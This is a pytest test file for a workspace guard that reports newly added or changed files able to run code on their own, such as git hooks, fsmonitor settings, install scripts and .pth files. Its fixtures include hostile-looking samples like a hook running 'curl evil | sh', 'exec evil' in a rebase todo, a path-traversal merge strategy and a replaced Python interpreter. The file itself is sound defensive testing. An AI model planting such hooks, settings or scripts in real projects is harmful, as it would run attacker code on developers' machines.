"""What of a workspace is told after a session, line by line; ordinary work is not."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from init.guard import changes
from tests.unit.guard.projects import HOOK, add_submodule, commit, git, made, put, told

# What is told


@pytest.mark.parametrize(
    ("path", "content", "lines"),
    [
        (".git/hooks/post-checkout", HOOK, ("#!/bin/sh", "curl evil | sh")),
        (".git/hooks/sub/x", "a", ("a",)),
        (".GIT/hooks/pre-push", "a", ("a",)),
        (".Envrc", "a", ("a",)),
        ("deep/er/.git/hooks/pre-push", "a", ("a",)),
        (".git/config", "[core]\nfsmonitor = x\n[user]\nname = y\n", ("core.fsmonitor = x",)),
        (".git/config", "[core] fsmonitor=x", ("core.fsmonitor = x",)),
        (".git/config", "\ufeff[CORE]\r\nFsMonitor=x\\\r\ny\r\n", ("core.fsmonitor = xy",)),
        (".git/config", '[core "fsmonitor\0"] x = y', ("core.fsmonitor = y",)),
        (".git/config", "[filter.x]\nclean = y", ("filter.x.clean = y",)),
        (".git/config", '[diff "A.b"]\ntextconv', ("diff.A.b.textconv",)),
        (".git/config", "[core] editor = a\neditor = b", ("core.editor = a", "core.editor = b")),
        (".git/config", "[core]\nfsmonitor = x\nbroken!", ("[core]", "fsmonitor = x", "broken!")),
        (".git/config.worktree", "[core]\npager = x", ("core.pager = x",)),
        (".git/modules/lib/a/HEAD", None, None),
        (".git/info/attributes", "*.c diff=x\n*.h text\n", ("*.c diff=x",)),
        (".git/rebase-merge/git-rebase-todo", "pick 1\nexec evil\n", ("exec evil",)),
        (".git/rebase-merge/strategy", "x/../evil\n", ("x/../evil",)),
        (".git/sequencer/opts", "[options]\nedit\nstrategy = x/../evil", ("options.strategy = x/../evil",)),
        (".gitattributes", "*.c  filter=x\n# no\n*.h -text eol=lf\n", ("*.c  filter=x",)),
        (".gitmodules", '[submodule "a"]\npath = a\nurl = u\nupdate = !x', ("submodule.a.update = !x",)),
        (".gitmodules", '[submodule "a"]\nurl = ext::x', ("submodule.a.url = ext::x",)),
        ("a/package.json", '{"name": "x", "scripts": {"postinstall": "x"}}', ('scripts.postinstall = "x"',)),
        ("package.json", '{"packageManager": "yarn@x"}', ('packageManager = "yarn@x"',)),
        ("package.json", '{"scripts": ', ('{"scripts":',)),
        ("package.json", "[" * 100_000, (f"{'[' * changes.MAX_WIDTH}… (100000 characters)",)),
        ("composer.json", '{"scripts": {"post-install-cmd": "x"}}', ('scripts.post-install-cmd = "x"',)),
        ("pyproject.toml", '[build-system]\nbackend-path = ["."]', ('[build-system] backend-path = ["."]',)),
        ("pyproject.toml", "[tool.mypy]\nplugins = [\n'a',\n\n]\nx = 1", ("[tool.mypy] plugins = [ 'a', ]",)),
        (
            "pyproject.toml",
            "[a.main]\ninit-hook = '''\nimport os\n'''\n",
            ("[a.main] init-hook = ''' import os '''",),
        ),
        ("setup.cfg", "[mypy]\nplugins =\n  a,\n\n  b\nstrict = x\n", ("[mypy] plugins = a, b",)),
        ("tox.ini", "[testenv]\ncommands = x\n[mypy]\nplugins: a", ("[mypy] plugins: a",)),
        (".flake8", "[flake8:local-plugins]\npaths = .\n", ("[flake8:local-plugins] paths = .",)),
        ("Cargo.toml", '[package]\nname = "build"\nbuild = "x.rs"\n', ('[package] build = "x.rs"',)),
        ("Cargo.toml", 'package = { "build"="x.rs" }', ('package = { "build"="x.rs" }',)),
        (
            "compile_commands.json",
            '[{"command": "ccache ./cc -c a.c"}, {"arguments": ["gcc", "-B./x"]}]',
            ("ccache", "-B./x"),
        ),
        (
            "package.json",
            '{"workspaces": [".cache/x"], "dependencies": {"a": "^1", "b": "file:vendor/b"}}',
            ('workspaces = [".cache/x"]', 'dependencies.b = "file:vendor/b"'),
        ),
        (
            "package.json",
            '{"overrides": {"a": {"b": "file:vendor/b"}}, "pnpm": {"overrides": {"c": "link:target/c"}}}',
            ('overrides.a.b = "file:vendor/b"', 'pnpm.overrides.c = "link:target/c"'),
        ),
        (
            "Cargo.toml",
            "[dependencies]\na = { path = 'target/a' }\nb = { path = '../b' }\n",
            ("[dependencies] a = { path = 'target/a' }",),
        ),
        (
            "pyproject.toml",
            "[tool.uv.sources]\na = { path = './.cache/a' }\n",
            ("[tool.uv.sources] a = { path = './.cache/a' }",),
        ),
        (
            "requirements.txt",
            "a==1 \\\n    --hash=sha256:x\n--index-url https://x\n./b\n",
            ("--index-url https://x", "./b"),
        ),
        ("mypy.ini", "[mypy]\nPlugins = a\n", ("[mypy] Plugins = a",)),
        ("setup.cfg", "[flake8:local-plugins]\nx = a:B\n", ("[flake8:local-plugins] x = a:B",)),
        ("pytest.ini", "[pytest]\naddopts = -q -p evil\n", ("[pytest] addopts = -q -p evil",)),
        (
            "pyproject.toml",
            "[tool.pytest.ini_options]\naddopts = [\n'-p', 'x'\n]",
            ("[tool.pytest.ini_options] '-p', 'x'",),
        ),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'x'", ("[[tool.uv.index]] url = 'x'",)),
        ("pyproject.toml", "x = 1\rplugins = 'x'", ("x = 1\rplugins = 'x'",)),
        ("package.json", '{"SCRIPTS": {"install": "x"}}', ('SCRIPTS.install = "x"',)),
        (
            "package.json",
            '{"scripts": {"install": "x"}, "scripts": {}}',
            ('{"scripts": {"install": "x"}, "scripts": {}}',),
        ),
        ("package.json", '{"__proto__": {"scripts": 1}}', ('{"__proto__": {"scripts": 1}}',)),
        ("package.json", '{"name": "a"} // x', ('{"name": "a"} // x',)),
        ("package.json", b'{"name": "\xff"}', ('{"name": "\udcff"}',)),
        ("package.json", '{"a": NaN}', ('{"a": NaN}',)),
        ("package.json", '{"jest": {"setupFiles": ["x"]}}', ('jest = {"setupFiles": ["x"]}',)),
        (
            "composer.json",
            '{"config": {"allow-plugins": {"a/b": true}}}',
            ('config.allow-plugins = {"a/b": true}',),
        ),
        (
            "tsconfig.json",
            '{"compilerOptions": {"plugins": [{"name": "x"}], /* */ "strict": true,},}',
            ('compilerOptions.plugins = [{"name": "x"}]',),
        ),
        (
            "tsconfig.app.json",
            '{"extends": ["./tsconfig.json", "../../data/tsconfig.json", "x"]}',
            ('extends = "../../data/tsconfig.json"', 'extends = "x"'),
        ),
        (
            "tsconfig.json",
            '{"references": [{"path": "a"}, {"path": "./.cache/a"}, {"path": "b.json"}]}',
            ('references = "./.cache/a"', 'references = "b.json"'),
        ),
        (
            "deno.jsonc",
            '{"tasks": {"dev": "x"}, "lint": {"plugins": ["./x.ts"]}} // x',
            ('lint.plugins = ["./x.ts"]', 'tasks.dev = "x"'),
        ),
        ("cspell.json", '{"words": ["import"], "import": ["./x.js"]}', ('import = ["./x.js"]',)),
        ("cspell.yaml", "words:\n  - a\nimport:\n- ./x.js\n", ("import: - ./x.js",)),
        ("cspell.yaml", "words: &a [x]\nimport: *a\n", ("words: &a [x]", "import: *a")),
        ("analysis_options.yaml", "analyzer:\n  plugins:\n    - x\n  errors: y\n", ("plugins: - x",)),
        (
            "compile_commands.json",
            '[{"command": "./cc -c a.c"}, {"arguments": ["/usr/bin/cc", "a.c"]}]',
            ("./cc",),
        ),
        (
            ".vscode/settings.json",
            '{"cSpell.words": ["a"], "cSpell.import": ["./x.js"]}',
            ('cSpell.import = ["./x.js"]',),
        ),
        ("package.json", '{"eslintConfig": {"parser": "./x"}}', ('eslintConfig = {"parser": "./x"}',)),
        ("package.json", '{"prettier": "./x"}', ('prettier = "./x"',)),
        (".git/config", "[delta]\npager = x", ("delta.pager = x",)),
        (".git/lazygit.yml", "customCommands: x", ("customCommands: x",)),
        (".venv/lib/python3.11/site-packages/a.pth", "/a\nimport os; x()\n", ("import os; x()",)),
        ("venv/Lib/site-packages/a.pth", "\ufeffimport\tos\n", ("\ufeffimport os",)),
        ("venv/lib/python3.9/site-packages/a.pth", "#\x0cimport x\n", ("#\x0cimport x",)),
        (
            ".vscode/settings.json",
            '{ // "x": 1,\n "editor.tabSize": 2, /* */ "git.path": "/x//y", "[c]": {"a.b": [1,],},}',
            ('git.path = "/x//y"', "a.b = [1]"),
        ),
        (".vscode/settings.json", '{"a.b": "x", "a.b": "y"}', ('{"a.b": "x", "a.b": "y"}',)),
    ],
)
def test_what_runs_is_shown(
    root: Path, path: str, content: str | bytes | None, lines: tuple[str, ...] | None
) -> None:
    expected = {} if lines is None else {path: ("added", lines)}
    assert told(root, lambda: put(root / path, content or "")) == expected


@pytest.mark.parametrize(
    ("path", "by_itself"),
    [(".envrc", True), ("Makefile", False), ("setup.py", False), (".git/hooks/pre-push", True)],
)
def test_what_runs_by_habit_is_told_apart(root: Path, path: str, by_itself: bool) -> None:
    (change,) = made(root, lambda: put(root / path, "x"))
    assert change.by_itself == by_itself


@pytest.mark.parametrize(
    ("scripts", "by_itself"),
    [({"test": "x"}, False), ({"test": "x", "prepare": "y"}, True), ({"preinstall": "x"}, True)],
)
def test_scripts_run_by_itself_or_by_habit(root: Path, scripts: dict[str, str], by_itself: bool) -> None:
    (change,) = made(root, lambda: put(root / "package.json", json.dumps({"scripts": scripts})))
    assert change.by_itself == by_itself


def test_what_runs_by_itself_is_the_first_line_and_the_first_change(root: Path) -> None:
    scripts = {**{f"run{number}": "x" for number in range(50)}, "postinstall": "evil"}

    def act() -> None:
        put(root / "Makefile", "all:\n")
        put(root / "package.json", json.dumps({"scripts": scripts}))

    first, second = made(root, act)
    assert (first.path, first.lines[0]) == ("package.json", 'scripts.postinstall = "evil"')
    assert second.path == "Makefile"


def test_only_the_new_lines_of_a_changed_file_are_shown(root: Path, project: Path) -> None:
    makefile = project / "Makefile"
    found = told(root, lambda: makefile.write_text("all:\n\tcurl evil\n\techo\n"))
    assert found == {"project/Makefile": ("changed", ("    curl evil",))}


def test_of_a_changed_package_only_the_new_script_is_shown(root: Path, project: Path) -> None:
    content = json.loads((project / "package.json").read_text())
    content["scripts"]["postinstall"] = "evil"
    content["version"] = "2"
    found = told(root, lambda: put(project / "package.json", json.dumps(content)))
    assert found == {"project/package.json": ("changed", ('scripts.postinstall = "evil"',))}


def test_lines_in_another_order_and_a_hook_made_executable_are_told(root: Path) -> None:
    makefile, hook = put(root / "Makefile", "a\nb\n"), put(root / ".git/hooks/x", "a")

    def act() -> None:
        makefile.write_text("b\na\n")
        hook.chmod(0o755)

    assert told(root, act) == {
        "Makefile": ("changed", ("is in another order, or shorter",)),
        ".git/hooks/x": ("changed", ("has become executable",)),
    }


def test_a_file_that_becomes_a_link_of_the_same_content_is_told(root: Path) -> None:
    path = put(root / ".envrc", "other")

    def act() -> None:
        path.unlink()
        path.symlink_to("other")

    assert told(root, act) == {".envrc": ("changed", ("is a link to other",))}


def test_a_value_that_comes_back_into_force_is_told(root: Path, project: Path) -> None:
    put(project / ".git" / "config", "[core]\neditor = bad\neditor = good\n")
    found = told(root, lambda: put(project / ".git" / "config", "[core]\neditor = bad\n"))
    assert found == {"project/.git/config": ("changed", ("core.editor = bad",))}


def test_the_interpreter_of_a_virtual_environment_is_told_when_it_changes(root: Path) -> None:
    program = root / ".venv" / "bin" / "python3.11"
    program.parent.mkdir(parents=True)
    program.symlink_to("/usr/bin/python3.11")
    (program.parent / "python").symlink_to("python3.11")

    def act() -> None:
        program.unlink()
        put(program, "evil", 0o755)

    assert told(root, act) == {".venv/bin/python3.11": ("changed", ("evil",))}


# What is not told


def edit_sources(project: Path) -> None:
    put(project / "src" / "main.py", "print(1)\n")
    put(project / "README.md", "# x\n")
    put(project / "AGENTS.md", "Be good.\n")
    put(project / "src" / "head", "not a repository\n")


def add_dependency(project: Path) -> None:
    content = json.loads((project / "package.json").read_text())
    put(
        project / "package.json",
        json.dumps({**content, "dependencies": {"x": "^1"}, "version": "3"}, indent=4),
    )
    put(project / "node_modules" / "x" / "package.json", '{"scripts": {"postinstall": "x"}}')
    put(project / "node_modules" / "x" / ".vscode" / "tasks.json", "{}")


def commit_and_branch(project: Path) -> None:
    edit_sources(project)
    commit(project)
    git(project, "checkout", "-q", "-b", "feature")
    git(project, "branch", "--set-upstream-to=main")
    git(project, "tag", "v1")
    git(project, "stash", "list")
    git(project, "gc", "-q")


def configure(project: Path) -> None:
    git(project, "config", "user.name", "somebody")
    git(project, "config", "core.fsmonitor", "true")
    git(project, "config", "pager.log", "false")
    git(project, "config", "core.autocrlf", "input")
    git(project, "config", "branch.main.rebase", "true")


def add_worktree(project: Path) -> None:
    shutil.move(project / "Makefile", project.parent / "kept")
    git(project, "worktree", "add", "-q", "--no-checkout", "../tree")


def rebase(project: Path) -> None:
    git(project, "checkout", "-q", "-b", "side")
    put(project / "src" / "side.py")
    commit(project)
    put(project / "src" / "main.py", "print(2)\n")
    commit(project)
    with pytest.raises(subprocess.CalledProcessError):
        git(project, "-c", "sequence.editor=sed -i '1i break\\nbad'", "rebase", "-i", "HEAD~1")


PYPROJECT = """
[build-system]
requires = ["x"]
build-backend = "x"
[project]
name = "a"
dependencies = [
  "x",
]
[tool.pytest.ini_options]
addopts = "-ra --strict-markers"
[tool.coverage.run]
source = ["a"]
"""


def edit_settings(project: Path) -> None:
    put(
        project / ".vscode" / "settings.json",
        '{"editor.rulers": [80], "[python]": {"editor.tabSize": 4}} // x',
    )
    put(project / "pyproject.toml", PYPROJECT)
    put(project / "Cargo.toml", '[package]\nname = "a"\nbuild = false\n[build-dependencies]\nbuild-x = "1"\n')
    put(project / "setup.cfg", "[mypy]\nstrict = true\n[tool:pytest]\naddopts = -q\n")
    put(project / "tox.ini", "[testenv]\ncommands = pytest\n")
    put(
        project / "tsconfig.json",
        '{"extends": "./tsconfig.base.json", "compilerOptions": {"strict": true,},}',
    )
    put(project / "deno.json", '{"imports": {"x": "jsr:x"}, "fmt": {}}')
    put(project / "cspell.yaml", "# words\nwords:\n  - guard\n")
    put(project / "analysis_options.yaml", "linter:\n  rules:\n    - x\n")
    put(project / "compile_commands.json", '[{"directory": "/x", "command": "/usr/bin/c++ -c a.cc"}]')
    put(project / "composer.json", '{"require": {"a/b": "1"}, "autoload": {"psr-4": {"A": "src"}}}')
    put(project / "pytest.ini", "[pytest]\naddopts = -q --strict-markers\n")
    put(project / "requirements.txt", "a==1 \\\n  --hash=sha256:x\nb[c]>=2 # x\n")
    put(project / "tests" / "conftest.py", "import x\n")
    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a.pth", "/project/src\n")
    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a" / "setup.py", "import x\n")
    put(project / ".gitattributes", "* text=auto\n")
    put(project / ".opencode" / "node_modules" / "x" / "index.js")


def take_away(project: Path) -> None:
    (project / "Makefile").unlink()
    shutil.rmtree(project / ".git" / "hooks")
    put(project / "package.json", '{"scripts": {"test": "jest"}}')


def folders_with_names_of_files(project: Path) -> None:
    put(project / "makefile" / "main.py")
    put(project / ".envrc" / "main.py")
    put(project / "package.json.d" / "main.py")
    put(project / ".vscodex" / "tasks.json")


def samples(project: Path) -> None:
    put(project / ".git" / "hooks" / "pre-push.sample", HOOK, 0o755)


HARMLESS = (
    edit_sources, add_dependency, commit_and_branch, configure, add_worktree, add_submodule,
    rebase, edit_settings, take_away, folders_with_names_of_files, samples,
)  # fmt: skip


@pytest.mark.parametrize("act", HARMLESS, ids=lambda act: act.__name__)
def test_ordinary_work_is_not_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
    assert told(root, lambda: act(project)) == {}


def test_a_copy_of_a_repository_elsewhere_is_told(root: Path, project: Path) -> None:
    found = told(root, lambda: shutil.copytree(project, root / "copy"))
    assert set(found) == {"copy/.git/hooks/pre-commit", "copy/Makefile", "copy/package.json"}
